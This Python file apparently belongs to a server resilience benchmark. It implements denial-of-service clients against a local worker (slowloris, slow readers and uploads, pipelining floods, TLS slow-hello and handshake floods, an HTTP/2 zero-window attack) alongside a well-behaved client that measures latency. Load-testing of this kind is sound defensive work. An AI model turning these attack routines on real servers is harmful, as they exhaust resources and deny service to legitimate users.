"""The clients of ``bench/hostile.py``: the well-behaved one it measures
and the attacks it runs against the same worker (``ATTACKS``, by name),
plainly or through TLS (``TLS``/``TLS_H2``, which ``--tls`` sets)."""

from __future__ import annotations

import multiprocessing
import os
import select
import socket
import ssl
import sys
import time

#: How long one request of the well-behaved client may take before it
#: counts as failed.
CLIENT_TIMEOUT = 5.0
#: Pause between two requests of the well-behaved client.
CLIENT_GAP = 0.005
SMALL_RCVBUF = 4096
REQUEST = b"GET / HTTP/1.1\r\nHost: bench\r\n\r\n"
#: Processes of the ``tls-handshakes`` attack.
HANDSHAKE_PROCESSES = 2

#: Set by ``--tls``: the client side of every connection (no verification:
#: the certificate is a throw-away one), and the same with ALPN ``h2``.
TLS: ssl.SSLContext | None = None
TLS_H2: ssl.SSLContext | None = None


def request(path: str, extra: bytes = b"") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: bench\r\n".encode() + extra + b"\r\n"


def client_context(alpn: list[str] | None = None) -> ssl.SSLContext:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)
    return ctx


def connect(port: int, rcvbuf: int | None = None, ctx: ssl.SSLContext | None = None):
    """A connection to the worker, through TLS with ``--tls`` (`ctx`
    overrides the context)."""
    s = socket.socket()
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.connect(("127.0.0.1", port))
    ctx = ctx or TLS
    return ctx.wrap_socket(s) if ctx else s


# -- attacks: each runs until `stop` is set, then closes its sockets ------------------


def pipelining(port, stop, path="/"):
    socks = [connect(port, SMALL_RCVBUF) for _ in range(4)]
    chunk = request(path) * 2000
    for s in socks:
        s.setblocking(False)
    while not stop.is_set():
        _, writable, _ = select.select([], socks, [], 0.2)
        for s in writable:
            try:
                s.send(chunk)
            except OSError:
                pass
    return socks


def probe_flood(port, stop):
    return pipelining(port, stop, "/healthz")


def slow_readers(port, stop, path="/big", n=140):
    socks = []
    for _ in range(n):
        s = connect(port, SMALL_RCVBUF)
        s.sendall(request(path))
        socks.append(s)
    stop.wait()
    return socks


def slow_generator(port, stop):
    return slow_readers(port, stop, "/gen")


def h2_zero_window(port, stop):
    import h2.config
    import h2.connection
    import h2.settings

    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    scheme = "https" if TLS else "http"
    head = [(":method", "GET"), (":scheme", scheme), (":path", "/big"), (":authority", "bench")]
    for i in range(128):
        conn.send_headers(1 + 2 * i, head, end_stream=True)
    s = connect(port, ctx=TLS_H2)
    s.sendall(conn.data_to_send())
    s.settimeout(0.2)
    while not stop.is_set():
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        if not data:
            break
        conn.receive_data(data)  # window updates are never sent
        s.sendall(conn.data_to_send())
    return [s]


def trickle(socks, data: bytes, stop, held_back: int):
    """Sends `data` to every socket a byte a second until `stop`, never
    its last `held_back` bytes (the message stays incomplete)."""
    at = 0
    while not stop.wait(1.0) and at < len(data) - held_back:
        for s in socks:
            try:
                s.send(data[at : at + 1])
            except OSError:
                pass
        at += 1
    return socks


def slowloris(port, stop, n=500):
    socks = [connect(port) for _ in range(n)]
    return trickle(socks, request("/", b"X-Slow: " + b"a" * 64 + b"\r\n"), stop, 4)


def slow_upload(port, stop, n=50):
    socks = []
    for _ in range(n):
        s = connect(port)
        s.sendall(request("/upload", b"Content-Length: 10000000\r\n"))
        socks.append(s)
    while not stop.wait(1.0):
        for s in socks:
            try:
                s.send(b"u" * 1024)
            except OSError:
                pass
    return socks


def client_hello() -> bytes:
    """The bytes of a TLS ClientHello, made by Python's own client."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = client_context().wrap_bio(incoming, outgoing)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def tls_slow_hello(port, stop, n=500):
    socks = []
    for _ in range(n):
        s = socket.socket()
        s.connect(("127.0.0.1", port))
        socks.append(s)
    return trickle(socks, client_hello(), stop, 1)


def handshake_flood(port: int, done) -> None:
    """One process of ``tls-handshakes``: handshakes until terminated,
    counted in `done`."""
    os.nice(19)
    ctx = client_context()
    while True:
        try:
            connect(port, ctx=ctx).close()
        except OSError:
            continue
        with done.get_lock():
            done.value += 1


def tls_handshakes(port, stop):
    spawn = multiprocessing.get_context("spawn")
    done = spawn.Value("q", 0)
    procs = [
        spawn.Process(target=handshake_flood, args=(port, done), daemon=True)
        for _ in range(HANDSHAKE_PROCESSES)
    ]
    started = time.monotonic()
    for p in procs:
        p.start()
    stop.wait()
    for p in procs:
        p.terminate()
        p.join(5)
    rate = done.value / (time.monotonic() - started)
    print(f"tls-handshakes: {rate:.0f} handshakes a second", file=sys.stderr, flush=True)
    return []


#: Attacks that only make sense against a TLS port.
TLS_ONLY = {"tls-slow-hello", "tls-handshakes"}

ATTACKS = {
    "none": None,
    "pipelining": pipelining,
    "probe-flood": probe_flood,
    "slow-readers": slow_readers,
    "slow-generator": slow_generator,
    "h2-zero-window": h2_zero_window,
    "slowloris": slowloris,
    "slow-upload": slow_upload,
    "tls-slow-hello": tls_slow_hello,
    "tls-handshakes": tls_handshakes,
}


# -- the well-behaved client ------------------------------------------------------------


def well_behaved(port: int, duration: float) -> tuple[int, list[float]]:
    """(requests tried, latencies of those answered in time, seconds)."""
    tried, latencies = 0, []
    s = None
    until = time.monotonic() + duration
    while time.monotonic() < until:
        tried += 1
        t0 = time.monotonic()
        try:
            if s is None:
                s = socket.create_connection(("127.0.0.1", port), timeout=CLIENT_TIMEOUT)
                if TLS:
                    s = TLS.wrap_socket(s)
            s.sendall(REQUEST)
            data = b""
            while not data.endswith(b"\r\n\r\nok"):
                more = s.recv(4096)
                if not more:
                    raise ConnectionError("closed")
                data += more
            latencies.append(time.monotonic() - t0)
        except OSError:
            if s is not None:
                s.close()
            s = None
        time.sleep(CLIENT_GAP)
    if s is not None:
        s.close()
    return tried, latencies
